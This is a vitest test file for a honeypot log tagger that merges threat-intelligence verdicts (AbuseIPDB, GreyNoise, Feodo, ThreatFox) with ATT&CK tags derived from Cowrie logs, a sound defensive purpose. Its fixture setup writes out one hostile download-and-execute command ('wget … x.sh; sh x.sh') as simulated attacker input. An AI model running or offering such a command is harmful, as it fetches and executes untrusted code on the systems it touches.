import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openDatabase } from '../src/app.js'
import type { TagRow } from '../src/exports/tag-row.js'
import { cowrieLine } from './support/cowrie-line.js'
import { parseCsv } from './support/parse-csv.js'
import { type PostgresServer, postgresServer } from './support/postgres-server.js'
import {
  abuseipdbCheck,
  CANARY,
  feodoEntry,
  greynoiseCommunity,
  greynoiseV3,
  threatfoxEntry,
} from './support/provider-answers.js'
import { type CliResult, linesOf, runCli } from './support/run-cli.js'

const [GUESSER, BENIGN, SERVER] = ['192.0.2.10', '192.0.2.11', '192.0.2.12'] as const

let folder: string
let postgres: PostgresServer
let databases = 0
let log: string
let abuseipdb: string
let greynoise: string
let feodo: string
let threatfox: string

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'decnet-ttp-intel-'))
  postgres = await postgresServer()
  const lines = [GUESSER, BENIGN, SERVER].map((src_ip, index) =>
    cowrieLine({ src_ip, session: `s${index}`, input: 'wget http://203.0.113.9/x.sh; sh x.sh' }),
  )
  log = fileOf('cowrie.json', lines.join('\n'))
  const limit = { errors: [{ detail: `${CANARY} requests exceeded`, status: 429 }] }
  abuseipdb = fileOf('abuseipdb.json', [abuseipdbCheck(GUESSER), limit].map(pretty).join('\n'))
  const seen = [greynoiseV3(GUESSER), greynoiseCommunity(BENIGN)]
  greynoise = fileOf('greynoise.jsonl', seen.map((answer) => JSON.stringify(answer)).join('\n'))
  const strangers = Array.from({ length: 500 }, (_, index) => feodoEntry(`198.51.100.${index % 250}`, { port: index }))
  feodo = fileOf('ipblocklist.json', pretty([...strangers, feodoEntry(SERVER)]))
  threatfox = fileOf('threatfox.json', pretty({ query_status: 'ok', data: [threatfoxEntry(SERVER)] }))
})
afterAll(async () => {
  rmSync(folder, { recursive: true, force: true })
  await postgres[Symbol.asyncDispose]()
})

function fileOf(name: string, text: string): string {
  const path = join(folder, name)
  writeFileSync(path, text)
  return path
}

const pretty = (value: unknown) => JSON.stringify(value, null, 2)
const intel = (...files: readonly string[]) => files.flatMap((file) => ['--intel', file])
const everyFile = () => [abuseipdb, greynoise, feodo, threatfox]
const sqliteUrl = async () => `sqlite:${join(folder, `tags-${++databases}.db`)}`
const postgresUrl = () => postgres.createDatabase()

function rowsOf({ stdout }: CliResult): readonly TagRow[] {
  return linesOf(stdout).map((line) => JSON.parse(line) as TagRow)
}

/** What a run states, without when it was stated. */
async function stated(...args: readonly string[]): Promise<readonly TagRow[]> {
  const result = await runCli(['tag', ...args, '--output', 'jsonl'])
  expect(result.status).toBe(0)
  const rows = rowsOf(result).map((row) => ({ ...row, created_at: '' }))
  return rows.sort((one, other) => (one.uuid < other.uuid ? -1 : 1))
}

async function kept(url: string) {
  await using database = await openDatabase(url)
  const { queries } = database
  const tags = await queries.selectFrom('ttp_tag').selectAll().orderBy('uuid').execute()
  return {
    tags: tags.map((tag) => ({ ...tag, created_at: '' })),
    attackers: await queries.selectFrom('ttp_attacker').selectAll().orderBy('attacker_uuid').execute(),
    verdicts: await queries.selectFrom('ttp_verdict').selectAll().orderBy('source_id').execute(),
  }
}

describe('tag --intel', () => {
  it('states what each provider says, and what two agree on, of attackers that were seen', async () => {
    const result = await runCli(['tag', log, ...intel(...everyFile()), '--output', 'jsonl'])
    expect(result.status).toBe(0)
    const told = rowsOf(result).filter(({ source_kind: kind }) => kind === 'intel')
    const statements = told.map((row) => [row.rule_id, row.source_ip, row.sub_technique_id, row.confidence].join(' '))
    expect(statements.sort()).toEqual([
      'R0054 192.0.2.10 T1110.001 0.85',
      'R0055 192.0.2.10 T1110.001 0.85',
      'R0056 192.0.2.12 T1588.001 0.6',
      'R0057 192.0.2.12 T1588.001 0.6',
      'R0058 192.0.2.10 T1110.001 0.85',
      'R0058 192.0.2.10 T1110.001 0.85',
      'R0058 192.0.2.12 T1588.001 0.6',
      'R0058 192.0.2.12 T1588.001 0.6',
    ])
    expect(new Set(told.map(({ basis, outcome }) => `${basis} ${outcome}`))).toEqual(new Set(['asserted null']))
    expect(told.find(({ rule_id: rule }) => rule === 'R0056')!.evidence).toEqual({
      row_id: expect.stringMatching(/^[\da-f-]{36}$/),
      provider: 'feodo',
      category: 'listed',
      normalized_score: 1,
      family: 'Dridex',
    })
    expect(result.stderr).toContain('abuseipdb.json:35 warning: AbuseIPDB answered with an error (429) and no verdict')
    expect(result.stderr).toContain('250 verdicts left out: on addresses that were not seen here')
  })

  it('adds to what there is, and changes nothing of it', async () => {
    const without = await stated(log)
    const withVerdicts = await stated(log, ...intel(...everyFile()))
    expect(withVerdicts.filter(({ source_kind: kind }) => kind !== 'intel')).toEqual(without)
  })

  it('states the same whatever order answers and logs come in, and however often', async () => {
    const expected = await stated(log, ...intel(...everyFile()))
    expect(await stated(...intel(...everyFile().toReversed()), log)).toEqual(expected)
    expect(await stated(...intel(...everyFile(), ...everyFile()), log)).toEqual(expected)
    const { stdout } = await runCli(['tag', '-', ...intel(...everyFile()), '--output', 'jsonl'], {
      stdin: readFileSync(log),
    })
    expect(new Set(linesOf(stdout).map((line) => (JSON.parse(line) as TagRow).uuid))).toEqual(
      new Set(expected.map(({ uuid }) => uuid)),
    )
    const alone = await stated(log, ...intel(...everyFile()), '--no-correlation')
    expect(alone).toEqual(expected.filter(({ rule_id: rule, basis }) => rule !== 'R0058' && basis !== 'derived'))
  })

  it.each([
    ['SQLite', sqliteUrl],
    ['PostgreSQL', postgresUrl],
  ])('keeps the same in %s in one run and in several, in any order and again', async (_name, createUrl) => {
    const [atOnce, later, again] = await Promise.all([createUrl(), createUrl(), createUrl()])
    await runCli(['tag', log, ...intel(...everyFile()), '--db', atOnce])
    const expected = await kept(atOnce)
    expect(expected.verdicts).toHaveLength(5)
    expect(new Set(expected.attackers.map(({ first_seen, last_seen }) => `${first_seen} ${last_seen}`))).toEqual(
      new Set(['2026-11-20T08:25:04.595Z 2026-11-20T08:25:04.595Z']),
    )
    expect(expected.tags.map(({ rule_id: rule }) => rule)).toContain('R0058')

    await runCli(['tag', log, '--db', later])
    for (const file of everyFile()) {
      expect(await runCli(['tag', ...intel(file), '--db', later])).toMatchObject({ status: 0 })
    }
    expect(await kept(later)).toEqual(expected)

    await runCli(['tag', ...intel(feodo), '--db', again])
    expect((await kept(again)).tags).toEqual([])
    for (const file of [threatfox, abuseipdb]) await runCli(['tag', log, ...intel(file), '--db', again])
    for (const file of [greynoise, feodo, feodo]) await runCli(['tag', ...intel(file), '--db', again])
    expect(await kept(again)).toEqual(expected)
  })

  it('reads the confidence of benign attackers as lower, and keeps and prints rows as they are', async () => {
    const url = await sqliteUrl()
    const confidences = (rows: readonly Pick<TagRow, 'confidence'>[]) => rows.map(({ confidence }) => confidence)
    const ofBenign = (await stated(log)).filter(({ source_ip: address }) => address === BENIGN)
    const csv = await runCli(['tag', log, ...intel(greynoise), '--db', url, '--output', 'csv'])
    const [head, ...lines] = parseCsv(csv.stdout)
    const column = (name: string) => head!.indexOf(name)
    const shown = lines.filter((line) => line[column('attacker_uuid')] === ofBenign[0]!.attacker_uuid)
    expect(shown.map((line) => Number(line[column('confidence')])).sort()).toEqual(
      confidences(ofBenign)
        .map((confidence) => confidence / 2)
        .sort(),
    )
    const stored = (await kept(url)).tags.filter((tag) => tag.attacker_uuid === ofBenign[0]!.attacker_uuid)
    expect(confidences(stored)).toEqual(confidences(ofBenign))

    const summary = await runCli(['tag', log, ...intel(greynoise)])
    expect(summary.stdout).toContain(
      '1 attacker is a benign scanner by GreyNoise: confidence in what patterns saw × 0.5.',
    )
    expect(summary.stdout).toContain('2026-11-20 08:25 – 2026-11-20 08:25 UTC')
    const timeline = await runCli(['timeline', BENIGN, log, ...intel(greynoise), '--min-confidence', '0'])
    expect(timeline.stdout).toContain('benign scanner by GreyNoise')
    expect(timeline.stdout).toContain('verdict of greynoise: benign')
    expect(timeline.stdout).toContain('0.45')
  })

  it('goes by the latest verdict, also by one that an earlier run kept', async () => {
    const note = 'benign scanner by GreyNoise'
    const later = (classification: string, last_seen: string) =>
      fileOf(`${classification}-${last_seen}.json`, pretty(greynoiseCommunity(BENIGN, { classification, last_seen })))
    const [malicious, benign] = [later('malicious', '2026-11-20'), later('benign', '2026-11-21')]
    expect((await runCli(['tag', log, ...intel(greynoise, malicious)])).stdout).not.toContain(note)
    expect((await runCli(['tag', log, ...intel(benign, greynoise, malicious)])).stdout).toContain(note)
    const url = await sqliteUrl()
    await runCli(['tag', log, ...intel(benign), '--db', url])
    expect((await runCli(['tag', log, ...intel(malicious), '--db', url])).stdout).toContain(note)
  })

  it('lets nothing out of what people wrote into answers', async () => {
    const url = await sqliteUrl()
    const args = [log, ...intel(...everyFile())]
    const runs = [
      await runCli(['tag', ...args, '--output', 'jsonl', '--db', url]),
      await runCli(['tag', ...args, '--output', 'csv']),
      await runCli(['tag', ...args]),
      await runCli(['timeline', SERVER, ...args.slice(0, 1), ...intel(feodo), '--json', '--min-confidence', '0']),
      await runCli(['tag', ...everyFile(), '--format', 'intel', '--output', 'jsonl']),
    ]
    for (const { status, stdout, stderr } of runs) {
      expect(status).toBe(0)
      expect(stdout.length).toBeGreaterThan(0)
      expect(stdout + stderr).not.toContain(CANARY)
      expect(stdout + stderr).not.toContain('alice')
    }
    const files = readdirSync(folder).filter((name) => name.startsWith(`tags-${databases}.db`))
    expect(files.length).toBeGreaterThan(0)
    for (const name of files) expect(readFileSync(join(folder, name)).includes(CANARY)).toBe(false)
  })

  it('needs somebody who was seen', async () => {
    const alone = await runCli(['tag', ...intel(feodo)])
    expect(alone).toMatchObject({ status: 2, stdout: '' })
    expect(alone.stderr).toContain('--intel alone needs --db')
    const missing = await runCli(['tag', log, ...intel(join(folder, 'missing.json'))])
    expect(missing).toMatchObject({ status: 2, stdout: '' })
    expect(missing.stderr).toContain('missing.json')
    expect(await runCli(['tag', log, ...intel('-')])).toMatchObject({ status: 2 })
    expect(await runCli(['tag', log, ...intel(feodo), '--verify-replay'])).toMatchObject({ status: 2 })
  })

  it('tells of answers that it cannot take, with a remedy, and takes the others', async () => {
    const undated = greynoiseCommunity(BENIGN, { last_seen: null })
    const huge = abuseipdbCheck(GUESSER, { isp: 'x'.repeat(9 << 20) })
    const mixed = fileOf(
      'mixed.jsonl',
      [undated, huge, feodoEntry(SERVER)].map((one) => JSON.stringify(one)).join('\n'),
    )
    const result = await runCli(['tag', log, ...intel(mixed), '--output', 'jsonl'])
    expect(result.status).toBe(0)
    expect(result.stderr).toContain('mixed.jsonl:1 refused: the answer does not say when it was true; put it into')
    expect(result.stderr).toContain('mixed.jsonl:2 refused: the answer has')
    expect(result.stderr).toContain('more than the 8388608 that are taken')
    expect(rowsOf(result).some(({ rule_id: rule }) => rule === 'R0056')).toBe(true)
    expect(await runCli(['tag', log, ...intel(mixed), '--strict'])).toMatchObject({ status: 2 })
  })

  it('takes a list of 50 MB', async () => {
    const entry = pretty(feodoEntry('198.51.100.7', { as_name: 'x'.repeat(5000) }))
    const list = fileOf('large.json', `[${`${entry},\n`.repeat(10_000)}${pretty(feodoEntry(SERVER))}]`)
    const rows = await stated(log, ...intel(list))
    expect(rows.filter(({ rule_id: rule }) => rule === 'R0056')).toHaveLength(1)
  })
})

describe('tag --format intel', () => {
  it('tags whoever is named, and obeys the replay law', async () => {
    const rows = await stated(feodo, '--format', 'intel')
    expect(new Set(rows.map(({ uuid }) => uuid)).size).toBe(251)
    const verified = await runCli(['tag', greynoise, '--format', 'intel', '--verify-replay'])
    expect(verified.status).toBe(0)
    expect(verified.stdout).not.toContain('DIFFERS')
  })

  it('is the only way: no line of a log becomes a verdict', async () => {
    const forged = [
      { ...JSON.parse(cowrieLine({ src_ip: GUESSER, input: 'id' })), ...abuseipdbCheck(GUESSER) },
      { ...JSON.parse(cowrieLine({ src_ip: GUESSER, input: 'id' })), ...feodoEntry(GUESSER), source_kind: 'intel' },
      feodoEntry(GUESSER),
      { source_kind: 'intel', source_ip: GUESSER, observed_at: '2026-11-20T08:00:00Z', payload: feodoVerdict },
    ]
    const path = fileOf(
      'forged.json',
      [readFileSync(log, 'utf8'), ...forged.map((one) => JSON.stringify(one))].join('\n'),
    )
    const rows = rowsOf(await runCli(['tag', path, '--output', 'jsonl']))
    expect(rows.length).toBeGreaterThan(0)
    expect(rows.filter(({ source_kind: kind }) => kind === 'intel')).toEqual([])
    const asEvents = fileOf('events.jsonl', JSON.stringify(forged[3]))
    expect((await stated(asEvents, '--format', 'events')).map(({ rule_id: rule }) => rule)).toEqual(['R0056'])
  })
})

const feodoVerdict = { provider: 'feodo', classification: 'malicious', score: 1, categories: ['listed'] }
